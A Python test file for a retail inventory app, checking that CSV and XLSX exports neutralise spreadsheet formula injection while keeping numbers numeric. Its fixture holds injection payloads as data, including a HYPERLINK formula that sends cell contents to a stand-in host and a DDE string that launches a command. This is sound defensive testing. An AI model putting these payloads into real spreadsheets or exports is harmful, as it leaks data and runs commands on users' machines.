"""Exports a spreadsheet opens: text that would run as a formula is quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from inventory.models import Item
from retailsync.core.exports import formula_safe
from retailsync.core.services import user_create

HOSTILE = {
    "EVIL-1": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "EVIL-2": "+1+cmd|' /C calc'!A0",
    "EVIL-3": "-2+3",
    "EVIL-4": "@SUM(1,2)",
    "EVIL-5": "\t=1+1",
    "PLAIN": "Blue mug, 350 ml",
}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-A1*2", "'-A1*2"),
        ("-12.50", "-12.50"),
        ("+1e3", "+1e3"),
        ("@x", "'@x"),
        ("\rA", "'\rA"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-5.00"), Decimal("-5.00")),
        (-3, -3),
        (None, None),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_quoted(cell, shown):
    assert formula_safe(cell) == shown


def _admin_export(client, fmt: str) -> bytes:
    user_create(username="root", role="admin", password="pw-123456789")
    client.login(username="root", password="pw-123456789")
    page = client.get("/admin/inventory/item/export/")
    assert page.status_code == 200
    formats = {label: value for value, label in page.context["form"].fields["format"].choices}
    fields = {name: "on" for name in page.context["form"].fields if name.startswith("itemresource")}
    answer = client.post(
        "/admin/inventory/item/export/",
        {"format": formats[fmt], "resource": "0", **fields},
    )
    assert answer.status_code == 200, answer.content[:500]
    return answer.content


@pytest.fixture
def hostile_items(db):
    for sku, description in HOSTILE.items():
        Item.objects.create(sku=sku, description=description, unit_cost=Decimal("-12.50"))


def test_the_sku_master_exports_to_csv_without_formulas(client, hostile_items):
    rows = {r["sku"]: r for r in csv.DictReader(io.StringIO(_admin_export(client, "csv").decode()))}
    assert rows["EVIL-1"]["description"] == "'" + HOSTILE["EVIL-1"]
    assert rows["EVIL-2"]["description"].startswith("'+1")
    assert rows["EVIL-3"]["description"] == "'-2+3"
    assert rows["EVIL-4"]["description"] == "'@SUM(1,2)"
    assert rows["EVIL-5"]["description"] == "'\t=1+1"
    assert rows["PLAIN"]["description"] == "Blue mug, 350 ml"
    # A negative amount is a number in CSV too: no quote in front of it.
    assert Decimal(rows["PLAIN"]["unit_cost"]) == Decimal("-12.50")


def test_the_sku_master_exports_to_xlsx_with_text_as_text_and_numbers_as_numbers(
    client, hostile_items
):
    book = openpyxl.load_workbook(io.BytesIO(_admin_export(client, "xlsx")))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    rows = {
        r[header.index("sku")]: dict(zip(header, r, strict=True))
        for r in sheet.iter_rows(min_row=2, values_only=True)
    }
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert rows["EVIL-1"]["description"] == "'" + HOSTILE["EVIL-1"]
    assert rows["EVIL-4"]["description"] == "'@SUM(1,2)"
    assert rows["PLAIN"]["description"] == "Blue mug, 350 ml"
    assert rows["PLAIN"]["unit_cost"] == pytest.approx(-12.5)
    assert isinstance(rows["PLAIN"]["unit_cost"], float | int)
